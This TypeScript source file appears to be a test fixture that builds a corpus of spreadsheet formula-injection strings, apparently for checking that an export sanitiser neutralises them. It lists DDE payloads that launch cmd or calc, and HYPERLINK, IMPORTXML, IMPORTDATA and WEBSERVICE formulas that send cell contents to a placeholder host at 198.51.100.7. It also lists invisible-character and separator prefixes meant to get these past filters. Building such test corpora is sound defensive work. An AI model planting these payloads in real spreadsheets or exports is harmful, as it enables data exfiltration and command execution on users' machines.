/**
 * What has been put into cells so that a spreadsheet computes it: OWASP's list, DDE, links that tell what stands beside them, and what gets such a
 * cell past a filter: blanks, invisible characters, quotes, separators of other countries, line breaks.
 */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '=',
  '==1',
  '-',
  "=cmd|' /C calc'!A0",
  '=cmd|"/c calc"!A1',
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  'DDE ("cmd";"/C calc";"!A0")A0;=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=HYPERLINK("http://198.51.100.7/?leak="&A1&A2,"Error: click here")',
  '=IMPORTXML(CONCAT("http://198.51.100.7/?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '=IMPORTDATA(CONCATENATE("http://198.51.100.7/?",ENCODEURL(A1)))',
  '=IMAGE("http://198.51.100.7/x.png")',
  '=WEBSERVICE("http://198.51.100.7/"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  '=1+1;=2+2',
  '=1+1\t=2+2',
  '+91 98765 43210',
  '-0.5e3',
  '=0x1',
] as const

const BEFORE = [
  '',
  ' ',
  '   ',
  '\u00a0',
  '\ufeff',
  '\u200b',
  '\u202e',
  '\u2066',
  '\u2028',
  '\u0000',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\v',
  '\f',
  '"',
  '""',
  '" ',
  "'",
  '\u3000',
  '\u00ad',
] as const
/** After something harmless, what begins another cell where another country's spreadsheet separates, or another row. */
const BREAKS = ['x,', 'x;', 'x\t', 'x|', 'x\n', 'x\r', 'x\r\n', 'x",', 'x";"', '",', '"\n', 'x, ', 'x;\u00a0', 'x\n"'] as const

export const FORMULA_CORPUS: readonly string[] = [...new Set(FORMULAS.flatMap((formula) => [...BEFORE, ...BREAKS].map((before) => before + formula))), '\tx', '\rx', '\nx', '\0x']
